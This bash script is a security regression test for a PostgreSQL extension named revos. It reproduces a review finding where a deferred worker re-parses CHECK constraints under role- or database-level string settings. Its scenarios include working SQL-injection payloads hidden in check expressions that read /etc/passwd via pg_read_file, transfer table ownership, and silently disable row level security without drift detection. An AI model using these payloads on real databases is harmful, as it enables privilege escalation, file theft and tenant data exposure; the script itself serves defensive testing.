#!/usr/bin/env bash
# Kept as a regression test (tests/attacks.sh B29 runs it and requires every case "not reproduced"): the adversarial review of 5798187, as its reviewer wrote it.
# repro-5798187-A: since e579537 the deferred worker parses a declared CHECK again, inside
#   ALTER TABLE <t> ADD CONSTRAINT <c> CHECK ((<expression>)) NOT VALID
# under its own session's settings. It pins search_path only. standard_conforming_strings comes
# from the database's or the role's defaults (ALTER DATABASE / ALTER ROLE … SET), and the apply
# itself runs its DDL with it on.
#   A1 (database owner, no payload of its own): a superuser's check `code !~ '\s'` (no whitespace)
#      is stored as `code !~ 's'`. Both deferred steps are done, and the in-transaction path refuses
#      the same payload (verification failed).
#   A2 (a payload text that plan_schema and the apply read as ONE check with two string literals,
#      applied by a superuser; the database owner set the setting): in the worker it becomes
#      extra ALTER TABLE subcommands run as the superuser: ADD COLUMN … DEFAULT pg_read_file(…)
#      and OWNER TO <database owner>.
#   A3 (a revos_admin member, its own ALTER ROLE … SET): the same trick turns row level security off
#      on its tenant table. It passes as revos's own statement, so no drift is recorded, and
#      both steps are done.
#
#   repro-5798187-A.sh SUPERUSER_DSN      (e.g. postgres://postgres@127.0.0.1:57470/postgres)
set -uo pipefail
DSN=${1:?usage: $0 SUPERUSER_DSN}
q() { psql -X -q -At -v ON_ERROR_STOP=1 -d "$1" -c "$2" 2>&1 | grep -v '^WARNING:\|^LINE \|^HINT:\|^QUERY:\|^ *\^'; }
settle() { # DB VERSION
  local i
  for i in $(seq 120); do
    q "$1" "SELECT count(*) FROM revos.deferred_status()" >/dev/null
    [ "$(q "$1" "SELECT count(*) FROM revos.deferred_steps WHERE version = '$2' AND status IN ('pending', 'running')")" = 0 ] && return
    sleep 0.5
  done
  echo "(steps of $2 still pending after 60 s)"
}
steps() { q "$1" "SELECT string_agg(status || ' ' || coalesce(sqlstate, '-'), ', ' ORDER BY id) FROM revos.deferred_steps WHERE version = '$2'"; }
fresh() { # DB OWNER -> prints the DB's DSN
  q "$DSN" "DROP DATABASE IF EXISTS $1" >/dev/null
  q "$DSN" "CREATE DATABASE $1 OWNER $2" >/dev/null
  local s="${DSN%/*}/$1"
  q "$s" "CREATE EXTENSION revos; CREATE SCHEMA app; GRANT USAGE ON SCHEMA app TO PUBLIC" >/dev/null
  echo "$s"
}
as() { local s=$1 r=$2; echo "${s/:\/\/postgres@/://$r@}"; }
tbl() { # NAME CHECK-JSON-or-empty
  local c=""
  [ -n "$2" ] && c=", \"check\": $2"
  echo "{\"name\": \"$1\", \"schema\": \"app\", \"tenant_scoped\": false, \"timestamps\": false, \"soft_delete\": false, \"columns\": [{\"name\": \"code\", \"type\": \"text\"$c}]}"
}
pay() { echo "{\"schema_version\": \"$1\", \"description\": \"repro A\", \"options\": {\"online\": $2}, \"tables\": [$3]}"; }
apply() { q "$1" "SELECT revos.apply_schema(\$p\$$2\$p\$::jsonb) -> 'result' ->> 'status'"; }
q "$DSN" "DO \$\$ BEGIN
  IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'dbo_a') THEN CREATE ROLE dbo_a LOGIN; END IF;
  IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'adm_a') THEN CREATE ROLE adm_a LOGIN; END IF;
END \$\$; GRANT revos_admin TO adm_a" >/dev/null
Q="'"   # a single quote

echo "== A1: a superuser's check, the database owner's ALTER DATABASE … SET standard_conforming_strings = off"
S=$(fresh rv5798187a1 dbo_a)
NOWS="\"code !~ ${Q}\\\\s${Q}\""          # JSON "code !~ '\\s'"  ->  code !~ '\s'
echo "declared check (JSON): $NOWS"
echo "v1: $(apply "$S" "$(pay a-1 false "$(tbl ctl ''), $(tbl codes '')")")"
q "$S" "INSERT INTO app.ctl (code) VALUES ('123'), ('A17'); INSERT INTO app.codes (code) VALUES ('123'), ('A17')" >/dev/null
q "$(as "$S" dbo_a)" "ALTER DATABASE rv5798187a1 SET standard_conforming_strings = off" >/dev/null; echo "dbo_a: ALTER DATABASE rv5798187a1 SET standard_conforming_strings = off"
echo "control, online false (the check added in the apply's transaction): $(apply "$S" "$(pay a-2 false "$(tbl ctl "$NOWS"), $(tbl codes '')")")"
q "$S" "SELECT '  ' || left(error_message, 160) FROM revos.schema_migrations WHERE version = 'a-2'"
echo "online true (the worker adds it): $(apply "$S" "$(pay a-3 true "$(tbl ctl ''), $(tbl codes "$NOWS")")")"
settle "$S" a-3
echo "deferred steps of a-3: $(steps "$S" a-3)"
q "$S" "SET standard_conforming_strings = on; SELECT 'in the catalog: ' || conrelid::regclass || ' ' || pg_get_constraintdef(oid) FROM pg_constraint WHERE conrelid = 'app.codes'::regclass AND contype = 'c'"
echo "insert 'a b' (whitespace) into codes: $(q "$S" "INSERT INTO app.codes (code) VALUES ('a b') RETURNING 'accepted'" | tail -1)"
echo "insert 'sam' into codes:              $(q "$S" "INSERT INTO app.codes (code) VALUES ('sam') RETURNING 'accepted'" | tail -1)"
A1=$(q "$S" "SELECT count(*) FROM app.codes WHERE code = 'a b'")/$(steps "$S" a-3)

echo
echo "== A2: a superuser applies a payload whose check reads as one expression with two literals"
S=$(fresh rv5798187a2 dbo_a)
EVIL="\"code <> ${Q}\\\\${Q} AND code <> ${Q})) NOT VALID, ADD COLUMN loot text DEFAULT pg_read_file(\$q\$/etc/passwd\$q\$), OWNER TO dbo_a --${Q}\""
echo "declared check (JSON): $EVIL"
echo "v1: $(apply "$S" "$(pay e-1 false "$(tbl evil '')")")"
q "$S" "INSERT INTO app.evil (code) VALUES ('123'), ('456')" >/dev/null
q "$(as "$S" dbo_a)" "ALTER DATABASE rv5798187a2 SET standard_conforming_strings = off" >/dev/null; echo "dbo_a: ALTER DATABASE rv5798187a2 SET standard_conforming_strings = off"
echo "plan_schema (superuser): $(q "$S" "SELECT revos.plan_schema(\$p\$$(pay e-2 true "$(tbl evil "$EVIL")")\$p\$::jsonb) -> 'result' ->> 'status'")"
echo "dbo_a may run pg_read_file: $(q "$S" "SELECT has_function_privilege('dbo_a', 'pg_read_file(text)', 'EXECUTE')"); owner of app.evil: $(q "$S" "SELECT pg_get_userbyid(relowner) FROM pg_class WHERE oid = 'app.evil'::regclass")"
echo "apply_schema (superuser): $(apply "$S" "$(pay e-2 true "$(tbl evil "$EVIL")")")"
settle "$S" e-2
echo "deferred steps of e-2: $(steps "$S" e-2)"
q "$S" "SELECT 'recorded step ' || id || ': ' || sql FROM revos.deferred_steps WHERE version = 'e-2' ORDER BY id LIMIT 1"
OWN=$(q "$S" "SELECT pg_get_userbyid(relowner) FROM pg_class WHERE oid = 'app.evil'::regclass")
echo "owner of app.evil now: $OWN; columns: $(q "$S" "SELECT string_agg(attname, ', ' ORDER BY attnum) FROM pg_attribute WHERE attrelid = 'app.evil'::regclass AND attnum > 0 AND NOT attisdropped")"
echo "dbo_a reads app.evil.loot: $(q "$(as "$S" dbo_a)" "SELECT left(replace(loot, E'\n', ' | '), 100) FROM app.evil LIMIT 1")"
LOOT=$(q "$(as "$S" dbo_a)" "SELECT bool_and(loot LIKE 'root:%') FROM app.evil")

echo
echo "== A3: a revos_admin member's own ALTER ROLE … SET; row level security turned off on its tenant table, no drift recorded"
S=$(fresh rv5798187a3 postgres)
q "$S" "CREATE SCHEMA adm AUTHORIZATION adm_a" >/dev/null
AD=$(as "$S" adm_a)
NOTES() { echo "{\"name\": \"notes\", \"schema\": \"adm\", \"columns\": [{\"name\": \"body\", \"type\": \"text\"$1}]}"; }
echo "adm_a v1 (tenant table adm.notes): $(apply "$AD" "$(pay n-1 false "$(NOTES '')")")"
echo "adm.notes RLS enabled/forced: $(q "$S" "SELECT relrowsecurity || '/' || relforcerowsecurity FROM pg_class WHERE oid = 'adm.notes'::regclass")"
q "$AD" "ALTER ROLE adm_a IN DATABASE rv5798187a3 SET standard_conforming_strings = off" >/dev/null; echo "adm_a: ALTER ROLE adm_a IN DATABASE rv5798187a3 SET standard_conforming_strings = off"
M=$(q "$S" "SELECT coalesce(max(id), 0) FROM revos.events")
HIDE="\"body <> ${Q}\\\\${Q} AND body <> ${Q})) NOT VALID, NO FORCE ROW LEVEL SECURITY, DISABLE ROW LEVEL SECURITY --${Q}\""
echo "adm_a v2 (a check on body, online): $(apply "$AD" "$(pay n-2 true "$(NOTES ", \"check\": $HIDE")")")"
settle "$S" n-2
echo "deferred steps of n-2: $(steps "$S" n-2)"
RLS=$(q "$S" "SELECT relrowsecurity || '/' || relforcerowsecurity FROM pg_class WHERE oid = 'adm.notes'::regclass")
echo "adm.notes RLS enabled/forced now: $RLS"
D1=$(q "$S" "SELECT count(*) FROM revos.events WHERE event_type = 'schema_drift_detected' AND id > $M")
echo "schema_drift_detected events since: $D1"
q "$AD" "ALTER TABLE adm.notes ENABLE ROW LEVEL SECURITY" >/dev/null
D2=$(q "$S" "SELECT count(*) FROM revos.events WHERE event_type = 'schema_drift_detected' AND id > $M")
echo "control: adm_a's own ALTER TABLE … ENABLE ROW LEVEL SECURITY by hand -> drift events since: $D2"
q "$AD" "ALTER ROLE adm_a IN DATABASE rv5798187a3 RESET standard_conforming_strings" >/dev/null

echo
[ "$A1" = "1/done -, done -" ] && echo "A1 REPRODUCED: the worker stored another check than declared; both steps done" || echo "A1 not reproduced ($A1)"
[ "$LOOT" = t ] && [ "$OWN" = dbo_a ] && echo "A2 REPRODUCED: the superuser's worker ran pg_read_file('/etc/passwd') into a column and gave the table to dbo_a" || echo "A2 not reproduced"
[ "$RLS" = "false/false" ] && [ "$D1" = 0 ] && [ "$D2" != 0 ] && echo "A3 REPRODUCED: RLS off on a tenant table by a 'check' step, no drift recorded" || echo "A3 not reproduced"

echo
echo "== A4 (no attacker): the client's TimeZone (PGTZ) vs the worker's; a timestamptz literal in a check"
S=$(fresh rv5798187a4tz postgres)
TS() { echo "{\"name\": \"ev\", \"schema\": \"app\", \"tenant_scoped\": false, \"timestamps\": false, \"soft_delete\": false, \"columns\": [{\"name\": \"at\", \"type\": \"timestamptz\"$1}]}"; }
echo "v1: $(apply "$S" "$(pay t-1 false "$(TS '')")")"
q "$S" "INSERT INTO app.ev (at) VALUES ('2025-01-01 00:00+00')" >/dev/null
echo "server TimeZone: $(q "$S" "SHOW TimeZone")"
echo "v2 applied with PGTZ=Asia/Tokyo, check at >= '2024-06-01 00:00', online: $(PGTZ=Asia/Tokyo apply "$S" "$(pay t-2 true "$(TS ", \"check\": \"at >= '2024-06-01 00:00'\"")")")"
settle "$S" t-2
echo "deferred steps: $(steps "$S" t-2)"
echo "stored (in UTC): $(q "$S" "SET TimeZone = 'UTC'; SELECT pg_get_constraintdef(oid) FROM pg_constraint WHERE conrelid = 'app.ev'::regclass AND contype = 'c'")"
echo "the same check applied in the transaction by the same client would store 2024-05-31 15:00:00+00"
